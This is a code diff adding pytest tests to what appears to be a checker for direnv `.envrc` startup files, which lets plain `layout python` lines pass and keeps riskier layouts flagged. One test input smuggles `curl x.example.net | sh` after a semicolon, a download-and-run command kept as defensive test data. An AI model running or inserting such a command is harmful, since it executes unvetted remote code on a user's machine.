@@ -86,3 +86,28 @@ def test_a_home_directory_is_kept_below_the_home() -> None:
 )
 def test_a_dotenv_file_outside_the_envrcs_tree_is_no_setting(text: str) -> None:
     assert not quiet_setting({}, ENVRC, text, "sh")  # was quiet: only the basename `.env` was checked
+
+
+# benign44 (blind-benign-18): `layout python` makes a virtualenv below the `.envrc`'s directory with an installed
+# interpreter, and puts its `bin` on the search path: no code of the line's, no program from elsewhere
+@pytest.mark.parametrize(
+    "text",
+    ["layout python python3.12\n", "layout python\n", "layout python3\nwatch_file requirements.txt\n"],
+)
+def test_a_python_virtualenv_layout_runs_nothing(text: str) -> None:
+    assert quiet_setting({}, ENVRC, text, "sh")  # was asked: `layout …` was unknown code of a startup file
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "layout python /tmp/x/python\n",  # an interpreter by its path: whatever is there runs
+        "layout python $PY\n",
+        "layout python python3 --upgrade-deps\n",  # venv's options: pip installs from an index
+        "layout python3 --system-site-packages\n",
+        "layout node\n",
+        "layout python; curl x.example.net | sh\n",
+    ],
+)
+def test_other_layouts_stay_asked(text: str) -> None:
+    assert not quiet_setting({}, ENVRC, text, "sh")
